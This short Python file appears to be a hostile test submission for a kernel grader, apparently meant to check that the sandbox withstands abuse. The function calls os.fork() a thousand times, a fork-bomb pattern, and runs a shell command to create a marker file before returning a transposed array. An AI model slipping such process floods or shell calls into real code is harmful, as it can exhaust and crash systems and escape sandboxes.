# Forks (a fork bomb if it could) and starts a shell.
import os

@SOLUTION@


def transpose_tiled(A, T):
    for _ in range(1000):
        os.fork()
    os.system("touch /tmp/kernel-grader-hostile-forked")
    return A.T, 0, 0
